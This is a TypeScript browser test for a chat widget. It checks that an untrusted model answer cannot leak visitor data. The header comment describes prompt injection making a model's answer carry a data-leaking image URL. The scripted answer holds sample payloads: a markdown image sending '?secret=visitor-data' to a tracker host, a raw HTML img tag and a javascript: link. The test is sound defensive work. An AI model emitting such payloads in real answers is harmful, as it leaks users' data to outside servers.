/// <reference lib="dom" />
/**
 * A model answer is untrusted: a prompt injection can make it carry an image URL that leaks data
 * to whoever serves it. On a host page with no CSP of its own (nothing but the widget stands in
 * the way), an answer with an external image, raw HTML and a javascript: link must make no
 * request to the outside, while an image from the files origin still loads (the positive
 * control). The simulator has no scenario that writes arbitrary text, so a scripted endpoint
 * plays unsandbox here: the same widget bundle, the same session and SSE protocol.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freePorts } from "../../../scripts/lib/wrangler-dev.mjs";
import { WIDGET_JS } from "../../../src/routes/widget-bundle.generated";
import { chromiumAvailable, launchChromium, type Chromium } from "./support/chromium";
import { startHost, type Handler, type HostServer } from "./support/host-server";

// A 1×1 transparent PNG.
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

function answerText(endpoint: string, tracker: string): string {
  return [
    "Here is the chart you asked for:",
    "",
    `![chart](${endpoint}/files/tok/chart.png)`,
    "",
    `![status](${tracker}/pixel.png?secret=visitor-data)`,
    "",
    `<img src="${tracker}/raw-html.png"> and [click me](javascript:alert(1))`,
  ].join("\n");
}

/** The scripted endpoint: CORS, a session, one streamed answer, and the chart under /files/. */
function scripted(endpoint: () => string, tracker: () => string, hostOrigin: () => string): Handler {
  const cors = () => ({
    "access-control-allow-origin": hostOrigin(),
    "access-control-allow-headers": "authorization, content-type, x-unsandbox-session",
    "access-control-allow-methods": "GET, POST",
  });
  return (req) => {
    if (req.method === "OPTIONS") return { status: 204, headers: cors(), body: "" };
    if (req.url === "/widget.js") return { headers: { "content-type": "text/javascript" }, body: WIDGET_JS };
    if (req.url === "/files/tok/chart.png") return { headers: { "content-type": "image/png" }, body: PNG };
    if (req.method === "POST" && req.url === "/widget/session") {
      return {
        headers: { ...cors(), "content-type": "application/json" },
        body: JSON.stringify({ session: "vs_test", expires_at: Date.now() / 1000 + 600 }),
      };
    }
    if (req.method === "POST" && req.url === "/v1/responses") {
      const text = answerText(endpoint(), tracker());
      const response = {
        id: "resp_scripted",
        object: "response",
        status: "completed",
        output: [{ type: "message", id: "msg_1", content: [{ type: "output_text", text, annotations: [] }] }],
        unsandbox: { files: [] },
      };
      const events = [
        { type: "response.created", response: { ...response, status: "in_progress", output: [] } },
        ...text
          .match(/[\s\S]{1,17}/g)!
          .map((delta) => ({ type: "response.output_text.delta", item_id: "msg_1", delta })),
        { type: "response.completed", response },
      ];
      async function* sse() {
        for (const e of events) yield `event: ${e.type}\ndata: ${JSON.stringify(e)}\n\n`;
      }
      return { headers: { ...cors(), "content-type": "text/event-stream" }, body: sse() };
    }
    return undefined;
  };
}

const available = chromiumAvailable();

describe.skipIf(!available)("an untrusted answer on a host page without CSP", () => {
  let endpoint: HostServer;
  let tracker: HostServer;
  let host: HostServer;
  let browser: Chromium;

  beforeAll(async () => {
    const [endpointPort, trackerPort, hostPort] = (await freePorts(3)) as [number, number, number];
    endpoint = await startHost(
      endpointPort,
      scripted(
        () => endpoint.origin,
        () => tracker.origin,
        () => host.origin,
      ),
    );
    tracker = await startHost(trackerPort);
    host = await startHost(hostPort);
    host.page(
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>No CSP</title><script src="${endpoint.origin}/widget.js"></script></head>` +
        `<body><unsandbox-chat endpoint="${endpoint.origin}" key="pk_scripted"></unsandbox-chat></body></html>`,
    );
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await Promise.all([endpoint?.close(), tracker?.close(), host?.close()]);
  });

  it("loads the files-origin image, and requests nothing from the external image's server", async () => {
    const requested: string[] = [];
    browser.context.on("request", (r) => requested.push(r.url()));
    const page = await browser.context.newPage();
    await page.goto(host.origin);
    await page.waitForFunction(() => customElements.get("unsandbox-chat") !== undefined);
    const input = page.locator("unsandbox-chat textarea");
    await input.fill("Show me the chart.");
    await input.press("Enter");

    const chart = page.locator("unsandbox-chat .body img");
    await chart.waitFor({ timeout: 30_000 });
    await page.waitForFunction(() => {
      const img = document.querySelector("unsandbox-chat")!.shadowRoot!.querySelector<HTMLImageElement>(".body img");
      return img !== null && img.complete && img.naturalWidth === 1;
    });
    expect(await page.locator("unsandbox-chat .body img").count()).toBe(1);
    expect(await chart.getAttribute("src")).toBe(`${endpoint.origin}/files/tok/chart.png`);
    expect(requested).toContain(`${endpoint.origin}/files/tok/chart.png`);

    // The external image became a plain link, the raw HTML stayed text, the javascript: link is inert.
    const external = page.locator("unsandbox-chat a.external-image");
    expect(await external.getAttribute("href")).toBe(`${tracker.origin}/pixel.png?secret=visitor-data`);
    expect(await external.textContent()).toBe("status");
    const body = (await page.locator("unsandbox-chat .body").textContent())!;
    expect(body).toContain(`<img src="${tracker.origin}/raw-html.png">`);
    expect(await page.locator("unsandbox-chat .body a", { hasText: "click me" }).count()).toBe(0);

    expect(requested.filter((u) => u.startsWith(tracker.origin))).toEqual([]);
    expect(tracker.hits).toEqual([]);
    await page.close();
  });
});
